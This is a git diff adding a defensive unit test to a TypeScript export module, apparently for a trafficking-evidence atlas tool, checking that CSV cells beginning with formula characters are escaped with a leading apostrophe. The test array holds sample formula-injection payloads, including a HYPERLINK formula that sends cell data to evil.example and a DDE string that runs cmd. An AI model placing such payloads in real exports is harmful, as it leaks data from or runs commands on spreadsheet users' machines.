@@ -7,6 +7,7 @@ import { buildTestAtlas } from '../graph/test-atlas.js';
 import { exportAtlas } from './export-atlas.js';
 import { csvField, toCsv } from './csv.js';
 import { HTCDS_EXPLOITATION } from './htcds-mapping.js';
+import { note } from '../ingest/testing/reliability-note.js';
 
 /** Strict enough well-formedness: one root, every close tag matches the open one, nothing left open. */
 function assertWellFormedXml(xml: string): { readonly elements: Map<string, number> } {
@@ -45,6 +46,16 @@ test('CSV quoting follows RFC 4180', () => {
   assert.equal(csvField('two\nlines'), '"two\nlines"');
   assert.equal(csvField(null), '');
   assert.equal(toCsv(['a', 'b'], [{ a: 1, b: 'x,y' }]), 'a,b\r\n1,"x,y"\r\n');
+});
+
+test('CSV cells that a spreadsheet would run as a formula are written as text by the one CSV writer (CLI export and /api/export)', (t) => {
+  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1', '\r=1'];
+  for (const cell of hostile) assert.equal(csvField(cell).replace(/^"|"$/g, '').charAt(0), "'", JSON.stringify(cell));
+  assert.equal(csvField('=1,2'), `"'=1,2"`, 'guarded, then quoted');
+  assert.equal(csvField(-5), '-5', 'numbers are values, not formulas');
+  assert.equal(csvField('Traffickers exploit = and + signs inside'), 'Traffickers exploit = and + signs inside');
+  assert.equal(toCsv(['evidence'], [{ evidence: '=HYPERLINK("x")' }]), `evidence\r\n"'=HYPERLINK(""x"")"\r\n`);
+  note(t, { fault: 'CSV formula injection (=, +, -, @, tab, CR)', cases: hostile.length + 4, outcome: "cells written as text (a leading '), one CSV writer for the CLI export and /api/export" });
 });
 
 test('every form has an HTCDS exploitation type', () => {
